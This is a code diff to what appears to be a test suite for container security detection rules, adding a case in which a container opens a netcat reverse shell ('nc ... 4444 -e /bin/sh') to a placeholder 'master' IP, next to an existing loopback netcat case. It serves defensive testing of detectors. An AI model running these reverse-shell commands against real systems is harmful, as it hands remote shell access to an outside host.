@@ -1,5 +1,7 @@
 import { type Attack, outsideIp } from './attack.ts'
 
+// Of another block for documentation: outsideIp is the API server's.
+const masterIp = '198.51.100.10'
 const sshOptions = ['-F', 'none', '-o', 'BatchMode=yes', '-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null']
 
 export const network: readonly Attack[] = [
@@ -51,6 +53,15 @@ export const network: readonly Attack[] = [
     oursOnly: true,
     act: (ground) => ground.runInContainer(['/bin/busybox', 'nc', '127.0.0.1', '9', '-e', '/bin/sh']),
     fields: () => ({ 'proc.name': 'busybox', 'proc.cmdline': 'busybox nc 127.0.0.1 9 -e /bin/sh' }),
+  },
+  {
+    rule: 'Netcat Remote Code Execution in Container',
+    name: 'that reaches its master',
+    on: 'container',
+    priority: 'Warning',
+    act: (ground) => ground.runInContainer(['/bin/tool', 'host', masterIp, '4444', '/bin/nc', masterIp, '4444', '-e', '/bin/sh']),
+    fields: () => ({ 'proc.name': 'nc', 'proc.cmdline': `nc ${masterIp} 4444 -e /bin/sh` }),
+    companions: ['Redirect STDOUT/STDIN to Network Connection in Container'],
   },
   {
     rule: 'Packet socket created in container',
